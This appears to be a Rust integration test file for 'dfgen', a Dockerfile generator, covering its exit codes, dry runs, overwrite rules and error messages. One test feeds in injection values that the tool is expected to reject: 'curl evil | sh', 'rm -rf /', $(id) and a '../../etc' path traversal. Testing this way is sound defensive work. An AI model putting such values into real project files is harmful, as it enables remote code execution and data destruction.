//! The dfgen binary as a user runs it: exit codes, messages, what is and is
//! not written.

mod common;

use std::fs;
use std::path::Path;

use common::{GO_APP, dfgen, files_in, project, tests_dir};
use predicates::prelude::*;

#[test]
fn init_writes_dockerfile_and_dockerignore() {
    let p = project(GO_APP);
    dfgen()
        .args(["init", "--yes"])
        .arg(p.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("created").and(predicate::str::contains("Dockerfile")));
    let df = fs::read_to_string(p.path().join("Dockerfile")).unwrap();
    // `go 1.25` is a minimum: the preset's default release satisfies it.
    assert!(df.contains("ARG GO_VERSION=1.27"), "{df}");
    assert!(df.contains("satisfies \">=1.25\""), "{df}");
    assert!(df.contains("EXPOSE 9000"));
    assert!(df.contains("USER 65532:65532"));
    assert!(p.path().join(".dockerignore").exists());
}

#[test]
fn init_defaults_to_the_current_directory_and_never_prompts_without_a_terminal() {
    let p = project(GO_APP);
    // assert_cmd gives the child no terminal: it must not wait for input.
    dfgen()
        .arg("init")
        .current_dir(p.path())
        .timeout(std::time::Duration::from_secs(20))
        .assert()
        .success();
    assert!(p.path().join("Dockerfile").exists());
}

#[test]
fn rerun_is_unchanged_and_leaves_files_untouched() {
    let p = project(GO_APP);
    dfgen()
        .args(["init", "-y"])
        .arg(p.path())
        .assert()
        .success();
    let df = p.path().join("Dockerfile");
    let before = fs::read(&df).unwrap();
    let mtime = fs::metadata(&df).unwrap().modified().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(20));
    dfgen()
        .args(["init", "-y"])
        .arg(p.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("unchanged"));
    assert_eq!(fs::read(&df).unwrap(), before);
    assert_eq!(fs::metadata(&df).unwrap().modified().unwrap(), mtime);
}

#[test]
fn output_is_byte_identical_for_identical_input() {
    let a = project(GO_APP);
    let b = project(GO_APP);
    for p in [&a, &b] {
        dfgen()
            .args(["init", "-y"])
            .arg(p.path())
            .assert()
            .success();
    }
    for f in ["Dockerfile", ".dockerignore"] {
        assert_eq!(
            fs::read(a.path().join(f)).unwrap(),
            fs::read(b.path().join(f)).unwrap(),
            "{f}"
        );
    }
}

#[test]
fn dry_run_prints_and_writes_nothing() {
    let p = project(GO_APP);
    dfgen()
        .args(["init", "--dry-run"])
        .arg(p.path())
        .assert()
        .success()
        .stdout(
            predicate::str::contains("==> Dockerfile (would be created) <==")
                .and(predicate::str::contains("FROM")),
        );
    assert_eq!(files_in(p.path()), vec!["go.mod", "main.go"]);
}

#[test]
fn existing_files_are_not_overwritten_without_force() {
    let p = project(GO_APP);
    fs::write(p.path().join("Dockerfile"), "FROM scratch\n").unwrap();
    dfgen()
        .args(["init", "-y"])
        .arg(p.path())
        .assert()
        .code(2)
        .stderr(predicate::str::contains("Dockerfile").and(predicate::str::contains("--force")));
    assert_eq!(
        fs::read_to_string(p.path().join("Dockerfile")).unwrap(),
        "FROM scratch\n"
    );
    assert!(
        !p.path().join(".dockerignore").exists(),
        "nothing half-written"
    );
    dfgen()
        .args(["init", "-y", "--force"])
        .arg(p.path())
        .assert()
        .success();
    assert!(
        fs::read_to_string(p.path().join("Dockerfile"))
            .unwrap()
            .contains("golang:")
    );
}

#[test]
fn malformed_manifests_name_file_line_and_column_and_write_nothing() {
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "package.json",
            "{\n  \"name\": \"x\",\n  \"scripts\": {,\n}\n",
            &["package.json", "line 3", "column"],
        ),
        (
            "Cargo.toml",
            "[package]\nname = \"x\"\nversion = \n",
            &["Cargo.toml", "line 3", "column"],
        ),
        (
            "pyproject.toml",
            "[project\nname='x'\n",
            &["pyproject.toml", "line 1"],
        ),
        ("go.mod", "module x\ngo one.two\n", &["go.mod", "line 2"]),
    ];
    for (file, text, needles) in cases {
        let p = project(&[(file, text)]);
        let mut assert = dfgen().args(["init", "-y"]).arg(p.path()).assert().code(2);
        for n in *needles {
            assert = assert.stderr(predicate::str::contains(*n));
        }
        assert_eq!(
            files_in(p.path()),
            vec![file.to_string()],
            "{file}: nothing written"
        );
    }
}

#[test]
fn no_manifest_lists_what_was_looked_for() {
    let p = project(&[("README.md", "hi")]);
    dfgen()
        .args(["init", "-y"])
        .arg(p.path())
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("go.mod")
                .and(predicate::str::contains("package.json"))
                .and(predicate::str::contains("pyproject.toml"))
                .and(predicate::str::contains("requirements.txt"))
                .and(predicate::str::contains("Cargo.toml")),
        );
}

#[test]
fn missing_directory_is_a_clear_error() {
    dfgen()
        .args(["init", "-y", "/nonexistent/dfgen-test"])
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("/nonexistent/dfgen-test")
                .and(predicate::str::contains("not found")),
        );
}

#[cfg(unix)]
#[test]
fn symlink_loops_and_huge_files_are_errors_not_panics() {
    let p = project(&[]);
    std::os::unix::fs::symlink("package.json", p.path().join("package.json")).unwrap();
    dfgen()
        .args(["init", "-y"])
        .arg(p.path())
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("package.json")
                .and(predicate::str::contains("symbolic links")),
        );

    let big = format!(
        "{{\"name\": \"x\", \"description\": \"{}\"}}",
        "a".repeat(2 * 1024 * 1024)
    );
    let p = project(&[("package.json", &big)]);
    dfgen()
        .args(["init", "-y"])
        .arg(p.path())
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("package.json").and(predicate::str::contains("more than")),
        );
}

#[test]
fn injection_through_project_values_is_rejected_naming_file_and_field() {
    // (project files, file the error must name, field it must name)
    type Case<'a> = (&'a [(&'a str, &'a str)], &'a str, &'a str);
    let cases: &[Case] = &[
        (
            &[
                (
                    "package.json",
                    r#"{"name":"x","main":"server.js\nRUN curl evil | sh"}"#,
                ),
                ("server.js", ""),
            ],
            "package.json",
            "`main`",
        ),
        (
            &[
                (
                    "Cargo.toml",
                    "[package]\nname = \"x\"\nversion = \"0.1.0\"\n\n[[bin]]\nname = \"a\\\"; rm -rf /\"\npath = \"src/main.rs\"\n",
                ),
                ("src/main.rs", "fn main() {}\n"),
            ],
            "Cargo.toml",
            "bin[0].name",
        ),
        (
            &[
                (
                    "package.json",
                    r#"{"name":"x","scripts":{"build":"tsc","start":"node dist/$(id).js"}}"#,
                ),
                (
                    "tsconfig.json",
                    r#"{"compilerOptions":{"outDir":"../../etc"}}"#,
                ),
                ("src/index.ts", ""),
            ],
            "tsconfig.json",
            "outDir",
        ),
        (
            &[(
                "pyproject.toml",
                "[project]\nname = \"x\"\n\n[project.scripts]\n\"run$HOME\" = \"x:main\"\n",
            )],
            "pyproject.toml",
            "project.scripts",
        ),
        (
            &[
                ("go.mod", "module x\ngo 1.25\n"),
                ("cmd/a b/main.go", "package main\nfunc main() {}\n"),
            ],
            "cmd/a b/main.go",
            "main package directory",
        ),
    ];
    for (files, file, field) in cases {
        let p = project(files);
        dfgen()
            .args(["init", "-y"])
            .arg(p.path())
            .assert()
            .code(2)
            .stderr(predicate::str::contains(*file).and(predicate::str::contains(*field)));
        assert!(
            !p.path().join("Dockerfile").exists(),
            "{file}: nothing written"
        );
    }
}

#[test]
fn cmd_override_is_written_as_escaped_exec_form() {
    let p = project(GO_APP);
    dfgen()
        .args([
            "init",
            "-y",
            "--cmd",
            r#"/usr/local/bin/hi --greeting "say \"hi\"" $HOME"#,
        ])
        .arg(p.path())
        .assert()
        .success();
    let df = fs::read_to_string(p.path().join("Dockerfile")).unwrap();
    assert!(
        df.contains(r#"ENTRYPOINT ["/usr/local/bin/hi", "--greeting", "say \"hi\"", "$HOME"]"#),
        "{df}"
    );
    // The choice is saved, so a bare re-run reproduces the same files.
    assert!(
        df.contains(
            "# Regenerate with: dfgen init --force (it reads the choices saved in dfgen.yaml)"
        ),
        "{df}"
    );
    let cfg = fs::read_to_string(p.path().join("dfgen.yaml")).unwrap();
    assert!(cfg.contains("cmd:") && cfg.contains("say \"hi\""), "{cfg}");
    dfgen()
        .args(["init", "-y"])
        .arg(p.path())
        .assert()
        .success()
        .stdout(
            predicate::str::contains("unchanged").and(predicate::str::contains("created").not()),
        );
    assert_eq!(fs::read_to_string(p.path().join("Dockerfile")).unwrap(), df);
}

#[test]
fn several_mains_need_main_and_the_error_lists_them() {
    // No rule picks one of two tools with neutral names.
    let main = "package main\n\nfunc main() {}\n";
    let p = project(&[
        ("go.mod", "module example.com/tools\n\ngo 1.24\n"),
        ("cmd/alpha/main.go", main),
        ("cmd/beta/main.go", main),
    ]);
    dfgen()
        .args(["init", "--dry-run"])
        .arg(p.path())
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("cmd/alpha")
                .and(predicate::str::contains("cmd/beta"))
                .and(predicate::str::contains("--main")),
        );
    let dir = tests_dir().join("apps/go-cmd");
    // go-cmd has cmd/api and cmd/worker: the server-named one is built, and
    // the note names the other and the flag.
    dfgen()
        .args(["init", "--dry-run"])
        .arg(&dir)
        .assert()
        .success()
        .stdout(predicate::str::contains("-o /out/api ./cmd/api"))
        .stderr(
            predicate::str::contains("cmd/worker")
                .and(predicate::str::contains("named like a server"))
                .and(predicate::str::contains("--main")),
        );
    dfgen()
        .args(["init", "--dry-run", "--main", "cmd/worker"])
        .arg(&dir)
        .assert()
        .success()
        .stdout(predicate::str::contains("-o /out/worker ./cmd/worker"));
    dfgen()
        .args(["init", "--dry-run", "--main", "cmd/nope"])
        .arg(&dir)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("cmd/api"));
}

#[test]
fn flags_override_detection() {
    let p = project(GO_APP);
    dfgen()
        .args([
            "init",
            "--dry-run",
            "--runtime",
            "scratch",
            "--port",
            "7000",
        ])
        .arg(p.path())
        .assert()
        .success()
        .stdout(
            predicate::str::contains("FROM scratch AS runtime")
                .and(predicate::str::contains("EXPOSE 7000"))
                .and(predicate::str::contains("==> dfgen.yaml"))
                .and(predicate::str::contains("runtime: scratch"))
                .and(predicate::str::contains("port: 7000")),
        )
        .stderr(predicate::str::contains("listens on 9000"));
    dfgen()
        .args(["init", "--dry-run", "--runtime", "alpine"])
        .arg(p.path())
        .assert()
        .code(2)
        .stderr(predicate::str::contains("distroless, glibc, scratch"));
    dfgen()
        .args(["init", "--dry-run", "--preset", "node"])
        .arg(p.path())
        .assert()
        .code(2)
        .stderr(predicate::str::contains("package.json"));
    dfgen()
        .args(["init", "--dry-run", "--port", "0"])
        .arg(p.path())
        .assert()
        .code(2);
}

#[test]
fn unknown_port_means_no_expose_and_a_comment() {
    let p = project(&[
        ("go.mod", "module x\ngo 1.25\n"),
        ("main.go", "package main\n\nfunc main() {}\n"),
    ]);
    dfgen()
        .args(["init", "--dry-run"])
        .arg(p.path())
        .assert()
        .success()
        .stdout(
            predicate::str::is_match("(?m)^EXPOSE")
                .unwrap()
                .not()
                .and(predicate::str::contains("pass --port N")),
        );
}

#[test]
fn detect_json_has_findings_with_evidence() {
    let out = dfgen()
        .args(["detect", "--json"])
        .arg(tests_dir().join("apps/node-ts"))
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let findings = v["findings"].as_array().unwrap();
    let version = findings.iter().find(|f| f["what"] == "version").unwrap();
    assert!(
        version["evidence"]
            .as_str()
            .unwrap()
            .contains("engines.node"),
        "{version}"
    );
    assert_eq!(v["plan"]["shape"], "server-build");
    assert_eq!(v["plan"]["version"]["tag"], "24");
    assert_eq!(v["plan"]["version"]["evidence"]["file"], "package.json");
}

#[test]
fn presets_lists_every_preset_and_variant() {
    dfgen().arg("presets").assert().success().stdout(
        predicate::str::contains("go ")
            .and(predicate::str::contains("node-static"))
            .and(predicate::str::contains("--runtime scratch"))
            .and(predicate::str::contains("--runtime distroless [default]")),
    );
}

#[test]
fn help_explains_every_init_flag() {
    let assert = dfgen().args(["init", "--help"]).assert().success();
    for flag in [
        "--yes",
        "--dry-run",
        "--force",
        "--preset",
        "--runtime",
        "--port",
        "--cmd",
        "--main",
        "--templates-dir",
        "--presets-dir",
    ] {
        assert!(
            String::from_utf8_lossy(&assert.get_output().stdout).contains(flag),
            "{flag} missing from init --help"
        );
    }
    dfgen().args(["detect", "--help"]).assert().success();
    dfgen().args(["presets", "--help"]).assert().success();
}

#[test]
fn user_templates_and_presets_override_the_embedded_ones() {
    let p = project(GO_APP);
    let t = project(&[(
        "go/dockerignore.tera",
        "# custom ignore for {{ preset }}\n.git\n",
    )]);
    dfgen()
        .args(["init", "--dry-run", "--templates-dir"])
        .arg(t.path())
        .arg(p.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("# custom ignore for go"));

    let broken = project(&[("go/Dockerfile.tera", "FROM {{ images.build \n")]);
    dfgen()
        .args(["init", "--dry-run", "--templates-dir"])
        .arg(broken.path())
        .arg(p.path())
        .assert()
        .code(2)
        .stderr(predicate::str::contains("go/Dockerfile.tera"));

    // A variant added in YAML alone is usable without recompiling.
    let preset =
        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("presets/go.yaml")).unwrap();
    let preset = preset.replace(
        "    scratch:\n",
        "    distroless-debian12:\n      description: distroless static on Debian 12\n      image: gcr.io/distroless/static-debian12:nonroot\n      user: 65532\n    scratch:\n",
    );
    let dir = project(&[("go.yaml", &preset)]);
    dfgen()
        .args([
            "init",
            "--dry-run",
            "--runtime",
            "distroless-debian12",
            "--presets-dir",
        ])
        .arg(dir.path())
        .arg(p.path())
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "FROM gcr.io/distroless/static-debian12:nonroot AS runtime",
        ));

    let bad = project(&[("go.yaml", "name: go\nbogus: [\n")]);
    dfgen()
        .args(["presets", "--presets-dir"])
        .arg(bad.path())
        .assert()
        .code(2)
        .stderr(predicate::str::contains("go.yaml").and(predicate::str::contains("line")));
}

#[test]
fn init_prints_the_next_steps_with_the_real_port_and_compose() {
    let p = project(GO_APP);
    dfgen()
        .args(["init", "--yes", "--also", "compose.yaml"])
        .arg(p.path())
        .assert()
        .success()
        .stdout(
            predicate::str::contains("next steps:")
                .and(predicate::str::contains("docker build -t "))
                .and(predicate::str::contains("docker run --rm -p 9000:9000 "))
                .and(predicate::str::contains("docker compose up --build")),
        );
    // --quiet prints nothing but errors.
    let q = project(GO_APP);
    dfgen()
        .args(["-q", "init", "--yes"])
        .arg(q.path())
        .assert()
        .success()
        .stdout(predicate::str::is_empty());
}

#[test]
fn a_bad_lang_version_names_the_flag() {
    let p = project(GO_APP);
    dfgen()
        .args(["init", "--dry-run", "--lang-version", "banana"])
        .arg(p.path())
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--lang-version").and(predicate::str::contains("banana")));
}

#[test]
fn help_has_examples_man_page_and_completions_offer_preset_names() {
    dfgen().arg("--help").assert().success().stdout(
        predicate::str::contains("Examples:").and(predicate::str::contains("dfgen init --check")),
    );
    dfgen()
        .arg("man")
        .assert()
        .success()
        .stdout(predicate::str::contains(".TH dfgen 1"));
    dfgen()
        .args(["completions", "bash"])
        .assert()
        .success()
        .stdout(
            predicate::str::contains("node-static").and(predicate::str::contains("distroless")),
        );
    // Offered, not enforced: a project's own preset names still parse.
    dfgen()
        .args(["init", "--dry-run", "--preset", "my-team-go"])
        .arg(tests_dir().join("apps/go-root"))
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no preset named `my-team-go`"));
}
